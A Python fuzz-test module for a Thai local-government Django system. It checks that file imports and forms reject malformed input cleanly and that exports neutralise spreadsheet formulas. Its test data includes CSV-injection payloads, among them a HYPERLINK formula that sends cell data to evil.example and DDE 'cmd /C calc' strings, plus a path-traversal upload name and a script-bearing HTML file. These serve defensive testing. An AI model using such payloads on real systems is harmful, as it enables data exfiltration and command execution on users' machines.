"""Bad input, generated: every import and the main forms get random cells and fields.

Random cells mix very long strings, spreadsheet formulas (=1+1, =HYPERLINK(...), +cmd|...),
negative, huge and not-a-number values, impossible dates (31/02/2569), Thai digits and the
values a real file would carry; files come as csv in UTF-8, windows-874, latin-1 or UTF-16, as
xlsx (with real formula cells), cut-off xlsx or random bytes. The rule for every import: either a
clean ImportRejected / ValidationError whose messages are Thai, and not one row changed, or (when
the data happens to be valid) a consistent import. For forms, posted through the test client as
the organisation's staff: never a 500, and a page that answers with a form error changed nothing.
Exports: whatever text went in, write_table never writes a formula.
"""

import io
import re
from decimal import Decimal
from html.parser import HTMLParser

import pytest
from django.apps import apps
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from agreements.performance import exchange as agreement_exchange
from agreements.performance.models import AgreementIndicator, Aspect, PerformanceAgreement, WorkType
from ita.models import Result
from ita.results import exchange as ita_exchange
from ita.results.exchange import cells as ita_cells
from lao_integrity.announcements.models import Announcement, Status
from lao_integrity.orgs.access import SYSTEM
from lao_integrity.orgs.models import Organisation
from lao_integrity.orgs.resources import HEADERS as ORG_HEADERS
from lao_integrity.orgs.services import organisations_import
from lao_integrity.tabular import ImportRejected, read_table, write_table
from plans import services as plan_services
from plans.resources import HEADERS as PLAN_HEADERS

FUZZ = settings(max_examples=25, deadline=None, database=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                       HealthCheck.data_too_large, HealthCheck.large_base_example])
THAI = re.compile(r"[\u0E00-\u0E7F]")
TO_THAI_DIGITS = str.maketrans("0123456789", "๐๑๒๓๔๕๖๗๘๙")
APPS = ("orgs", "announcements", "plans", "ita", "agreements")

# --- cells ----------------------------------------------------------------------------------------------

FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/?d="&A1,"คลิกที่นี่")', "=cmd|' /C calc'!A0",
            "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "=SUM(1,", "=1/0", "=A1", "'=1+1"]
DATES = ["31/02/2569", "29/02/2566", "30/02/2569", "00/00/0000", "31/13/2569", "2569-02-31", "๓๑/๐๒/๒๕๖๙",
         "1/1/1", "31 ก.พ. 2569", "2569-13-01T25:61:00"]
HUGE = ["9" * 40, "-" + "9" * 40, "9" * 5000,  # past Python's 4,300-digit int() limit "1e308", "-1e308", "1e-308", "NaN", "nan", "inf", "-inf", "Infinity",
        "-0", "0.000000001", "1,000,000,000,000.999", "12.345", "-1", "-0.01", "100.01", "101"]

text = st.text(st.characters(blacklist_categories=("Cs",)), max_size=40)
long_text = st.integers(256, 12_000).map(lambda n: "ก" * n)
integers = st.integers(-(10**30), 10**30).map(str)
thai_numbers = st.integers(-1000, 10**6).map(lambda n: str(n).translate(TO_THAI_DIGITS))
floats = st.floats(allow_nan=True, allow_infinity=True).map(repr)
noise = st.one_of(st.just(""), st.just(" "), text, long_text, st.sampled_from(FORMULAS), integers, thai_numbers,
                  floats, st.sampled_from(DATES), st.sampled_from(HUGE))


def cells_like(valid: st.SearchStrategy) -> st.SearchStrategy:
    """A cell that is sometimes what the column expects and sometimes noise."""
    return st.one_of(valid, valid, noise)


def row_of(columns: list[st.SearchStrategy]) -> st.SearchStrategy:
    """A row: the columns' cells, sometimes cut short or carrying extra cells."""
    full = st.tuples(*[cells_like(c) for c in columns]).map(list)
    return st.one_of(full, full, full, st.lists(noise, max_size=len(columns) + 3))


# --- files --------------------------------------------------------------------------------------------------


def _xlsx_value(value):
    if isinstance(value, str):
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
        for kind in (int, float):  # numeric-looking cells become numbers, as Excel would keep them
            try:
                return kind(value) if value.strip() and len(value) < 300 and abs(kind(value)) < 1e300 else value
            except (ValueError, OverflowError):
                continue
    return value


def xlsx_from(headers, rows, *, numbers: bool) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append([ILLEGAL_CHARACTERS_RE.sub("", h) for h in headers])
    for row in rows:
        # Strings starting with "=" are written by openpyxl as formula cells: the formulas of the file.
        sheet.append([_xlsx_value(v) if numbers else ILLEGAL_CHARACTERS_RE.sub("", v) for v in row])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def csv_from(headers, rows, encoding: str) -> bytes:
    import csv

    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    for row in [headers, *rows]:
        writer.writerow([c.replace("\x00", "") for c in row])
    return out.getvalue().encode(encoding, errors="replace")


@st.composite
def table_files(draw, headers: list[str], columns: list[st.SearchStrategy]):
    """(filename, bytes) of a csv or xlsx file with random cells, or of something that only claims to be one."""
    if draw(st.booleans()):  # a file that may well be valid: the import must then be consistent
        rows = draw(st.lists(st.tuples(*columns).map(list), min_size=1, max_size=5))
        kind = draw(st.sampled_from(["csv-utf8", "csv-bom", "csv-cp874", "xlsx", "xlsx-text"]))
        if kind.startswith("xlsx"):
            return "file.xlsx", xlsx_from(list(headers), rows, numbers=kind == "xlsx")
        encoding = {"csv-utf8": "utf-8", "csv-bom": "utf-8-sig", "csv-cp874": "cp874"}[kind]
        return "file.csv", csv_from(list(headers), rows, encoding)
    heading = draw(st.one_of(st.just(list(headers)), st.just(list(headers)),
                             st.permutations(headers).map(list),
                             st.lists(st.one_of(st.sampled_from(headers), noise), max_size=len(headers) + 2)))
    rows = draw(st.lists(row_of(columns), max_size=6))
    kind = draw(st.sampled_from(["csv-utf8", "csv-utf8", "csv-bom", "csv-cp874", "csv-latin1", "csv-utf16",
                                 "xlsx", "xlsx", "xlsx-text", "xlsx-truncated", "bytes", "bytes-as-xlsx"]))
    if kind == "bytes":
        return draw(st.sampled_from(["file.csv", "file.xlsx", "file.pdf", "file"])), draw(st.binary(max_size=600))
    if kind == "bytes-as-xlsx":
        return "file.xlsx", b"PK\x03\x04" + draw(st.binary(max_size=600))
    if kind.startswith("xlsx"):
        data = xlsx_from(heading, rows, numbers=kind != "xlsx-text")
        if kind == "xlsx-truncated":
            data = data[: draw(st.integers(0, len(data) - 1))]
        return "file.xlsx", data
    encoding = {"csv-utf8": "utf-8", "csv-bom": "utf-8-sig", "csv-cp874": "cp874", "csv-latin1": "latin-1",
                "csv-utf16": "utf-16"}[kind]
    return "file.csv", csv_from(heading, [[str(c) for c in r] for r in rows], encoding)


# --- what must not change -------------------------------------------------------------------------------


def snapshot(labels=APPS) -> dict:
    """Every row of these apps (with their audit trail, and their many-to-many tables), as tuples."""
    state = {}
    with connection.cursor() as cursor:
        for label in labels:
            for model in apps.get_app_config(label).get_models(include_auto_created=True):
                table = connection.ops.quote_name(model._meta.db_table)
                cursor.execute(f"SELECT * FROM {table} ORDER BY 1")  # noqa: S608 (our own table names)
                state[model._meta.label] = cursor.fetchall()
    return state


def changed_tables(before: dict, after: dict) -> list[str]:
    return [label for label in before if before[label] != after.get(label)]


def assert_thai_rejection(error: Exception) -> None:
    if isinstance(error, ImportRejected):
        messages = [str(p) for p in error.problems]
    else:
        messages = error.messages
    assert messages, "a rejection must say why"
    for message in messages:
        assert THAI.search(message), f"not a Thai message: {message!r}"


def run_import(call, *, consistent, labels) -> None:
    before = snapshot(labels)
    try:
        result = call()
    except (ImportRejected, ValidationError) as error:
        event("rejected")
        assert_thai_rejection(error)
        after = snapshot(labels)
        assert not changed_tables(before, after), f"rejected, yet changed: {changed_tables(before, after)}"
    else:
        event("imported")
        consistent(result)


# --- the imports --------------------------------------------------------------------------------------------


tick = st.sampled_from(["✓", "✓", "", "1", "x", "ใช่"])
PLAN_COLUMNS = [
    st.integers(1, 40).map(str),
    st.sampled_from(["โครงการอบรมคุณธรรม", "มาตรการป้องกันผลประโยชน์ทับซ้อน", "กิจกรรมเวทีประชาคม"]),
    st.sampled_from(["1", "2", "3", "4", "๒", "*1"]),
    st.sampled_from(["10000", "0", "5,000.50", "๑๒๐๐๐", "10000.00"]),
    tick, tick, tick, tick,
    st.sampled_from(["", "ร่วมกับกองช่าง"]),
]


@FUZZ
@given(file=table_files(PLAN_HEADERS, PLAN_COLUMNS), fiscal_year=st.sampled_from([2570, 2570, 2569, 2571]))
def test_plan_import_fuzz(seeded, file, fiscal_year):
    name, data = file

    def consistent(plan):
        projects = list(plan.projects.order_by("sequence"))
        sequences = [p.sequence for p in projects]
        assert projects and len(set(sequences)) == len(sequences) and min(sequences) >= 1
        for project in projects:
            project.full_clean()
            assert project.budget >= 0

    run_import(lambda: plan_services.plan_import(organisation=seeded.org, fiscal_year=fiscal_year, data=data,
                                                 filename=name, user=seeded.staff),
               consistent=consistent, labels=("plans", "announcements"))


WIDE = [ita_cells.CODE, ita_cells.YEAR, *(f"ตัวชี้วัดที่ {n}" for n in range(1, 11)), ita_cells.RANK]
score = st.one_of(st.decimals(0, 100, places=2).map(str), st.sampled_from(["91.47", "๙๑.๔๗", "91,47", "100", "0"]))
ITA_COLUMNS = [st.sampled_from(["5205401", "5205401", "0000000", "52054"]),
               st.sampled_from(["2566", "2565", "2564", "2563", "2570", "๒๕๖๖"]),
               *[score] * 10, st.sampled_from(["", "1", "7850", "-3"])]


@FUZZ
@given(file=table_files(WIDE, ITA_COLUMNS))
def test_ita_results_import_fuzz(seeded, file):
    name, data = file

    def consistent(summary):
        assert summary.results >= 1
        for result in Result.objects.filter(organisation=seeded.org).prefetch_related("scores"):
            assert all(Decimal("0") <= s.score <= Decimal("100") for s in result.scores.all())

    run_import(lambda: ita_exchange.results_import(
        data=data, filename=name, user=seeded.staff,
        allowed_organisations=Organisation.objects.filter(pk=seeded.org.pk)), consistent=consistent, labels=("ita",))


# Levels 1-5 must rise (or all fall); noise cells break that often enough.
AGREEMENT_COLUMNS = [st.integers(1, 10).map(str), st.sampled_from([a.label for a in Aspect]),
                     st.sampled_from([w.label for w in WorkType]), st.sampled_from(["ร้อยละการเบิกจ่าย", "จำนวนครั้ง"]),
                     st.sampled_from(["ร้อยละ", "ครั้ง"]), st.sampled_from(["40", "๔๐", "0"]),
                     st.just("40"), st.sampled_from(["45", "๔๕"]), st.just("50"), st.just("55.5"), st.just("60"),
                     st.sampled_from(["25", "50", "100", "12.5"])]


@FUZZ
@given(file=table_files(agreement_exchange.HEADERS, AGREEMENT_COLUMNS))
def test_agreement_indicators_import_fuzz(seeded, file):
    name, data = file
    agreement = PerformanceAgreement.objects.filter(status="draft").order_by("pk").first()
    staff = seeded.other_staff  # the demo's agreements are แม่สายมิตรภาพ's

    def consistent(count):
        indicators = list(AgreementIndicator.objects.filter(agreement=agreement))
        assert len(indicators) == count >= 1
        for indicator in indicators:
            indicator.full_clean()

    run_import(lambda: agreement_exchange.indicators_import(agreement=agreement, data=data, filename=name,
                                                            user=staff), consistent=consistent, labels=("agreements",))


ORG_COLUMNS = [st.sampled_from(["5299977", "5299978", "5205401", "๕๒๙๙๙๗๙", "52999"]),
               st.sampled_from(["อบต.", "เทศบาลตำบล", "ทต.", "อบจ.", "เมือง"]),
               st.sampled_from(["บ้านทดสอบฟัซ", "องค์การบริหารส่วนตำบลทดลอง"]),
               st.sampled_from(["งาว", "เมือง"]), st.sampled_from(["ลำปาง", "เชียงราย"])]


@FUZZ
@given(file=table_files(ORG_HEADERS, ORG_COLUMNS))
def test_organisations_import_fuzz(seeded, file):
    name, data = file

    def consistent(count):
        assert count >= 1
        for organisation in Organisation.objects.all():
            organisation.full_clean()
            assert re.fullmatch(r"\d{7}", organisation.code)

    run_import(lambda: organisations_import(user=SYSTEM, data=data, filename=name), consistent=consistent, labels=("orgs",))


# --- the forms ----------------------------------------------------------------------------------------------


class _Fields(HTMLParser):
    """Named fields of a page's POST forms: name -> (kind, current value(s), choices)."""

    def __init__(self):
        super().__init__()
        self.fields: dict[str, dict] = {}
        self._in_post = False
        self._select = None
        self._textarea = None

    def _field(self, name, kind):
        return self.fields.setdefault(name, {"kind": kind, "value": [], "choices": []})

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "form":
            self._in_post = (a.get("method") or "").lower() == "post" and "logout" not in (a.get("action") or "")
        # The tokens are not the user's input: the client sends them as a browser does.
        if not self._in_post or not a.get("name") or a.get("name") in ("csrfmiddlewaretoken", "submission_token"):
            if tag == "option" and self._select is not None:
                self._option(a)
            return
        name = a["name"]
        if tag == "input":
            kind = (a.get("type") or "text").lower()
            field = self._field(name, kind)
            if kind in ("checkbox", "radio"):
                field["choices"].append(a.get("value", "on"))
                if "checked" in a:
                    field["value"].append(a.get("value", "on"))
            elif kind not in ("submit", "button", "file"):
                field["value"] = [a.get("value", "")]
            elif kind == "submit":
                field["choices"].append(a.get("value", ""))
        elif tag == "select":
            self._select = self._field(name, "select-multiple" if "multiple" in a else "select")
        elif tag == "textarea":
            self._textarea = self._field(name, "textarea")
            self._textarea["value"] = [""]
        elif tag == "button" and a.get("type", "submit") == "submit":
            self._field(name, "submit")["choices"].append(a.get("value", ""))

    def _option(self, a):
        self._select["choices"].append(a.get("value", ""))
        if "selected" in a:
            self._select["value"].append(a.get("value", ""))

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag):
        if tag == "select":
            self._select = None
        elif tag == "textarea":
            self._textarea = None
        elif tag == "form":
            self._in_post = False

    def handle_data(self, data):
        if self._textarea is not None:
            self._textarea["value"][0] += data


def page_fields(client, url) -> dict[str, dict]:
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    parser = _Fields()
    parser.feed(response.content.decode())
    assert parser.fields, f"no form fields on {url}"
    return parser.fields


EVIDENCE_NAMES = ["รายงาน.pdf", "photo.png", "photo.jpg", "report.docx", "virus.exe", "page.html", "logo.svg",
                  "noext", "../../etc/passwd.pdf", "a" * 300 + ".pdf", "รายงาน\x00.pdf"]
EVIDENCE_BYTES = [b"%PDF-1.4\n%%EOF\n", b"<html><script>alert(1)</script></html>", b"MZ\x90\x00",
                  b"\x89PNG\r\n\x1a\n", b"PK\x03\x04", b"", b"%PDF-1.4\n<html></html>\n%%EOF"]


def upload_strategy(field_name: str):
    if field_name == "file":  # the import pages
        return table_files(PLAN_HEADERS, PLAN_COLUMNS).map(lambda f: SimpleUploadedFile(f[0], f[1]))
    return st.builds(lambda name, data: SimpleUploadedFile(name.replace("\x00", ""), data),
                     st.sampled_from(EVIDENCE_NAMES),
                     st.one_of(st.sampled_from(EVIDENCE_BYTES), st.binary(max_size=400)))


def value_strategy(name: str, field: dict):
    kind, current, choices = field["kind"], field["value"], field["choices"]
    if kind == "file":
        return st.one_of(st.none(), upload_strategy(name))
    if kind == "submit":
        return st.one_of(st.none(), st.sampled_from(choices or [""]))
    if kind in ("checkbox", "select-multiple"):
        picks = st.lists(st.sampled_from(choices), max_size=3, unique=True) if choices else st.just([])
        return st.one_of(st.just(current), picks, st.lists(noise, max_size=2), st.none())
    options = [st.just(current[0] if current else ""), noise, st.none()]
    if choices:
        options.append(st.sampled_from(choices))
    return st.one_of(*options)


def fuzz_post(data, client, url, labels, pages: dict) -> None:
    # The page is read again only after a save (its hidden version field changes); a form error
    # leaves it as it was.
    fields = pages.get(url) or pages.setdefault(url, page_fields(client, url))
    post = {}
    for name, field in sorted(fields.items()):
        value = data.draw(value_strategy(name, field), label=name)
        if value is None:
            continue  # the field is missing from the request
        post[name] = value
    before = snapshot(labels)
    response = client.post(url, post)  # a 500 would raise here: the client re-raises the view's exception
    carries_nul = any("\x00" in str(value) for value in post.values())
    # A NUL character is refused for the whole request (lao_integrity.middleware): 400, nothing changed.
    assert response.status_code in ((400,) if carries_nul else (200, 302, 403, 404)), response.status_code
    event(f"answered {response.status_code}")
    if response.status_code not in (200, 400):
        pages.pop(url, None)
    if response.status_code in (200, 400):
        after = snapshot(labels)
        assert not changed_tables(before, after), (
            f"{url} answered with the form again yet changed {changed_tables(before, after)}")


def _draft_announcement(seeded):
    announcement = Announcement.objects.filter(organisation=seeded.org).exclude(status=Status.SIGNED).first()
    assert announcement is not None, "the demo has บ้านแหง's plan announcement before signing"
    return announcement.pk


FORMS = {
    "project edit": lambda s: (s.staff, f"/plans/projects/{s.plan.projects.order_by('sequence').first().pk}/edit/"),
    "project add": lambda s: (s.staff, f"/plans/{s.plan.pk}/projects/add/"),
    "detail sheet": lambda s: (s.staff,
                               f"/plans/projects/{s.plan.projects.order_by('sequence').first().pk}/sheet/edit/"),
    "progress": lambda s: (s.staff, f"/plans/projects/{s.plan.projects.order_by('sequence').first().pk}/progress/2/"),
    "plan import": lambda s: (s.staff, f"/plans/{s.plan.pk}/import/"),
    "announcement edit": lambda s: (s.staff, f"/announcements/{_draft_announcement(s)}/edit/"),
    "ITA score entry": lambda s: (s.staff, f"/ita/org/{s.org.code}/2566/edit/"),
    "ITA import": lambda s: (s.staff, "/ita/import/"),
    "measure": lambda s: (s.staff, f"/ita/measures/{s.org.code}/2567/add/"),
    "agreement indicator": lambda s: (
        s.other_staff, f"/agreements/{PerformanceAgreement.objects.filter(status='draft').order_by('pk')[0].pk}"
                       "/indicators/add/"),
    "agreement import": lambda s: (
        s.other_staff, f"/agreements/{PerformanceAgreement.objects.filter(status='draft').order_by('pk')[0].pk}"
                       "/indicators/import/"),
    "organisation profile": lambda s: (s.staff, f"/organisations/{s.org.code}/"),
}


@pytest.fixture
def pages() -> dict:
    """Form fields by page, for the examples of one test (function-scoped fixtures live that long)."""
    return {}


# What each form may change (the snapshot compared when it answers with an error).
FORM_APPS = {"announcement edit": ("announcements",), "ITA score entry": ("ita",), "ITA import": ("ita",),
             "measure": ("ita",), "agreement indicator": ("agreements",), "agreement import": ("agreements",),
             "organisation profile": ("orgs",)}


@pytest.mark.parametrize("form", list(FORMS))
@FUZZ
@given(data=st.data())
def test_forms_fuzz(seeded, client_for, pages, form, data):
    user, url = FORMS[form](seeded)
    fuzz_post(data, client_for(user), url, FORM_APPS.get(form, ("plans",)), pages)


# --- exports: no formula injection -----------------------------------------------------------------------


export_text = st.one_of(st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
                                max_size=30),
                        st.sampled_from(FORMULAS), st.sampled_from(HUGE), st.sampled_from(["'", "''=1", "'\t=1", "-"]))


@FUZZ
@given(rows=st.lists(st.lists(export_text, min_size=2, max_size=2), min_size=1, max_size=8))
def test_exported_xlsx_never_carries_a_formula(rows):
    rows = [[ILLEGAL_CHARACTERS_RE.sub("", c) for c in row] for row in rows]
    data = write_table(["ชื่อ", "=หมายเหตุ"], rows, "xlsx")
    sheet = load_workbook(io.BytesIO(data)).active
    assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)
    # The text comes back as written (XML turns a carriage return into a line feed; not ours to change).
    written = [[re.sub("\r\n?", "\n", c) for c in row] for row in rows]
    assert [[c.value if c.value is not None else "" for c in line] for line in sheet.iter_rows(min_row=2)] == written


@FUZZ
@given(rows=st.lists(st.lists(export_text, min_size=2, max_size=2), min_size=1, max_size=8))
@example(rows=[["", "\r0"]])  # found: a lone CR was written unquoted and the file could not be read back
@example(rows=[["\r=1+1", "\n=HYPERLINK(\"x\")"]])
def test_exported_csv_neutralises_formulas_and_reads_back(rows):
    data = write_table(["ชื่อ", "หมายเหตุ"], rows, "csv")
    import csv

    for line in list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1:]:
        for cell in line:
            # A spreadsheet runs a cell starting with = + - @ (or a tab/CR before one); ours never do,
            # except plain numbers such as -5.
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n") and cell.strip():
                assert re.fullmatch(r"[-+]?(?:\d[\d,]*)?\.?\d+|-+", cell.strip()), cell
    if any(any(c.strip() for c in row) for row in rows):
        read = [list(r) for r in read_table(data, "t.csv")]
        # As typed, but a carriage return is written as a line feed (the csv module leaves a lone one unquoted).
        expected = [[re.sub("\r\n?", "\n", c).strip() for c in row] for row in rows if any(c.strip() for c in row)]
        assert [r for r in read if any(r)] == expected


# --- what the fuzzing found, pinned ------------------------------------------------------------------------


def test_plan_import_again_with_two_projects_of_the_same_name(seeded):
    """Two projects may share a name. Before: the second import left one parked at ลำดับ 10001 and
    the third failed with the database's English "UNIQUE constraint failed" message."""
    row = ["1", "โครงการอบรมคุณธรรม", "1", "10000", "✓", "", "", "", ""]
    for rows in ([row, ["2", *row[1:]]], [row], [row], [["9999", *row[1:]]], [row]):
        plan = plan_services.plan_import(organisation=seeded.org, fiscal_year=2570, filename="p.csv",
                                         data=write_table(PLAN_HEADERS, rows, "csv"), user=seeded.staff)
        assert list(plan.projects.order_by("sequence").values_list("sequence", flat=True)) == [int(r[0]) for r in rows]


@pytest.mark.parametrize("sequence", ["10000", "4611686018427387904", "9" * 5000])
def test_plan_import_refuses_sequence_numbers_no_plan_has(seeded, sequence):
    """Found: sequences near the column's limit made the next import's parking overflow, and 5,000
    digits made Python's int() refuse with an English message."""
    row = [sequence, "โครงการอบรมคุณธรรม", "1", "10000", "✓", "", "", "", ""]
    with pytest.raises(ImportRejected, match="ลำดับ .* ต้องไม่เกิน 9,999"):
        plan_services.plan_import(organisation=seeded.org, fiscal_year=2570, filename="p.csv",
                                  data=write_table(PLAN_HEADERS, [row], "csv"), user=seeded.staff)


@pytest.mark.parametrize("rank", ["9" * 40, "9" * 5000, "10001", "๑๐๐๐๐๑"])
def test_a_huge_national_rank_is_a_thai_error_not_a_500(seeded, client_for, rank):
    """Found: a 40-digit rank went to the database (OverflowError on SQLite, integer out of range on
    PostgreSQL): a 500 on the score page and in the import."""
    before = snapshot(("ita",))
    response = client_for(seeded.staff).post(f"/ita/org/{seeded.org.code}/2566/edit/",
                                             {"score_1": "90", "national_rank": rank})
    assert response.status_code == 200 and "ต้องไม่เกิน 10,000" in response.content.decode()
    headers = [ita_cells.CODE, ita_cells.YEAR, "ตัวชี้วัดที่ 1", ita_cells.RANK]
    with pytest.raises(ImportRejected, match="ต้องไม่เกิน 10,000"):
        ita_exchange.results_import(data=write_table(headers, [[seeded.org.code, "2566", "90", rank]], "csv"),
                                    filename="ita.csv", user=seeded.staff)
    assert not changed_tables(before, snapshot(("ita",)))


def test_a_forged_formset_size_is_bounded(seeded, client_for):
    """TOTAL_FORMS=10^9 on the detail sheet used to build 2,000 forms per formset (a minute of CPU and a
    7 MB page for one request); now at most the cap, with the formset's error, and nothing saved."""
    project = seeded.plan.projects.order_by("sequence").first()
    post = {}
    for prefix in ("obj", "grp", "step", "out", "res"):
        post.update({f"{prefix}-TOTAL_FORMS": "1000000000", f"{prefix}-INITIAL_FORMS": "0"})
    before = snapshot(("plans",))
    response = client_for(seeded.staff).post(f"/plans/projects/{project.pk}/sheet/edit/", post)
    assert response.status_code == 200 and len(response.content) < 1_000_000
    assert 'class="errorlist nonform"' in response.content.decode()
    assert not changed_tables(before, snapshot(("plans",)))
